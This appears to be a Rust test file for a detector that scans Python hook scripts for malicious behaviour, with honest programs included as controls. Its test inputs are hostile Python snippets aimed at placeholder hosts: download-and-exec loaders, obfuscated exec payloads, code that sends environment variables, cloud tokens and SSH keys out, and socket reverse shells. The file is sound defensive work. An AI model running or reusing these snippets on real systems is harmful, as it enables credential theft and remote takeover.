//! Programs as hooks start them, bad and honest.

use super::*;
use BehaviourKind::*;
use proptest::prelude::*;

fn python(text: &str) -> Python {
    read(text, &Limits::default())
}

fn has(text: &str, is: impl Fn(&BehaviourKind) -> bool) {
    let found = python(text);
    assert!(found.behaviours.iter().any(is), "{text}: {found:?}");
}

#[test]
fn fetched_programs_are_found() {
    for text in [
        "import urllib.request\nexec(urllib.request.urlopen('https://x.invalid/a').read())",
        "from urllib.request import urlopen as o\nc = o('https://x.invalid/a').read().decode()\nexec(c)",
        "import requests as r\nx = r.get('https://x.invalid/a')\nexec(x.text)",
        "import requests, subprocess\ncode = requests.get('https://x.invalid/a').text\nsubprocess.run(['python3', '-c', code])",
        "import urllib.request, os\nurllib.request.urlretrieve('https://x.invalid/a', '/tmp/a')\nos.system('sh /tmp/a')",
        "import requests, subprocess\nwith open('/tmp/a', 'wb') as f:\n    f.write(requests.get('https://x.invalid/a').content)\nsubprocess.Popen(['/tmp/a'])",
        "import requests\ndef go(u):\n    return requests.get(u).text\nexec(go('https://x.invalid/a'))",
        "import base64\nexec(base64.b64decode('aW1wb3J0IHVybGxpYi5yZXF1ZXN0IGFzIHU7ZXhlYyh1LnVybG9wZW4oJ2h0dHBzOi8veC5pbnZhbGlkJykucmVhZCgpKQ=='))",
        "exec(\"import requests; exec(requests.get('https://x.invalid').text)\")",
    ] {
        has(text, |kind| matches!(kind, DownloadAndRun { .. }));
    }
}

#[test]
fn decoded_programs_are_found() {
    for text in [
        "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))",
        "import base64, zlib\nexec(zlib.decompress(base64.b64decode('eJw=')))",
        "import codecs\nexec(codecs.decode('cevag(1)', 'rot13'))",
        "exec(bytes.fromhex('7072696e74283129').decode())",
        "b = __import__('base64')\nimport base64 as q\nexec(q.b64decode('KTEodG5pcnA='[::-1]))",
    ] {
        has(text, |kind| *kind == RunsDecoded);
    }
}

#[test]
fn what_leaves_is_found() {
    for text in [
        "import os, requests\nrequests.post('https://x.invalid', json=dict(os.environ))",
        "import os, urllib.request as u\nu.urlopen('https://x.invalid', data=str(os.environ).encode())",
        "import os, json, urllib.request\nd = json.dumps(dict(os.environ)).encode()\nr = urllib.request.Request('https://x.invalid', data=d)\nurllib.request.urlopen(r)",
        "import os, requests\nt = os.environ.get('NPM_TOKEN')\nrequests.get(f'https://x.invalid/?t={t}')",
        "from os import getenv\nimport requests\nrequests.get('https://x.invalid/' + getenv('AWS_SECRET_ACCESS_KEY'))",
        "import os, socket\ns = socket.socket()\ns.connect(('192.0.2.1', 1))\ns.sendall(str(os.environ).encode())",
        "import os, http.client\nc = http.client.HTTPSConnection('x.invalid')\nc.request('POST', '/', str(os.environ))",
    ] {
        has(text, |kind| matches!(kind, SendsEnvironment { .. }));
    }
    has(
        "import os, requests\np = os.path.expanduser('~/.ssh/id_rsa')\nrequests.post('https://x.invalid', files={'f': open(p)})",
        |kind| matches!(kind, SendsFile { class: Some(_), .. }),
    );
    has("import platform, requests\nrequests.get('https://x.invalid/' + platform.node())", |kind| {
        *kind == SendsHostFacts
    });
}

#[test]
fn reverse_shells_and_commands_are_found() {
    for text in [
        "import socket,os,pty\ns=socket.socket()\ns.connect(('192.0.2.1',4))\nos.dup2(s.fileno(),0)\npty.spawn('/bin/sh')",
        "import socket, subprocess\ns = socket.socket()\ns.connect(('192.0.2.1', 1))\nsubprocess.call(['/bin/sh', '-i'], stdin=s.fileno(), stdout=s)",
    ] {
        has(text, |kind| *kind == ReverseShell);
    }
    assert_eq!(python("import os\nos.system('curl ' + 'https://x.invalid/a | sh')").commands.len(), 1);
    assert_eq!(python("from subprocess import run\nrun(['id', '-u'])").commands, ["'id' '-u'"]);
}

#[test]
fn a_download_to_a_made_up_path_is_followed_to_its_start() {
    for text in [
        "import os, subprocess, tempfile, urllib.request\np = os.path.join(tempfile.gettempdir(), 'a')\nurllib.request.urlretrieve('https://x.invalid/a', p)\nsubprocess.Popen([p])",
        "import os, requests, tempfile\np = tempfile.mktemp()\nwith open(p, 'wb') as f:\n    f.write(requests.get('https://x.invalid/a').content)\nos.system(p)",
    ] {
        has(
            text,
            |kind| matches!(kind, DownloadAndRun { urls } if urls.contains(&"https://x.invalid/a".to_owned())),
        );
    }
}

#[test]
fn a_module_that_is_imported_where_it_is_used_is_that_module() {
    has(
        "_ = lambda x: __import__('zlib').decompress(__import__('base64').b64decode(x[::-1]))\nexec((_)(b'a'))",
        |kind| *kind == RunsDecoded,
    );
}

#[test]
fn honest_programs_show_nothing() {
    for text in [
        "#!/usr/bin/env python\nimport os, sys\nprint(os.path.join(sys.argv[1], 'include'))",
        "import subprocess\nprint(subprocess.check_output(['git', 'rev-parse', 'HEAD']).decode().strip())",
        "import os\nenv = os.environ.copy()\nenv['CC'] = 'clang'\nimport subprocess\nsubprocess.check_call(['make'], env=env)",
        "import sys, json, platform\nprint(json.dumps({'arch': platform.machine()}))",
        "def main():\n    with open('config.gypi') as f:\n        config = eval(f.read())\n    print(config)\n",
        "import urllib.request\nurllib.request.urlretrieve('https://x.invalid/a.tgz', 'a.tgz')\nimport tarfile\ntarfile.open('a.tgz').extractall()",
        "import re\nx = re.compile('a')",
    ] {
        let found = python(text);
        assert!(found.behaviours.is_empty() && !found.makes_code, "{text}: {found:?}");
        assert!(found.is_complete, "{text}");
    }
}

#[test]
fn code_that_cannot_be_known_is_told() {
    for text in
        ["exec(input())", "import marshal\nexec(marshal.loads(x))", "import ctypes\nctypes.CDLL('a.so')"]
    {
        assert!(python(text).makes_code, "{text}");
    }
    assert!(!python("x = 'a").is_complete);
    assert!(python(&"(".repeat(100_000)).behaviours.is_empty());
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    #[test]
    fn arbitrary_text_never_panics(text in "\\PC{0,200}") {
        let _ = python(&text);
    }

    #[test]
    fn python_like_text_never_panics(
        parts in proptest::collection::vec(prop::sample::select(vec![
            "import ", "from ", "os.environ", "exec", "(", ")", "[", "]", "'", "\"", "f'{", "}", "\"\"\"", "=", " as ",
            "x", ".read", ".", ",", "\n", ";", ":", "base64.b64decode", "requests.get", "with ", "def ", "return ", "::-1", "é", "\\",
        ]), 0..60)
    ) {
        let _ = python(&parts.concat());
    }
}
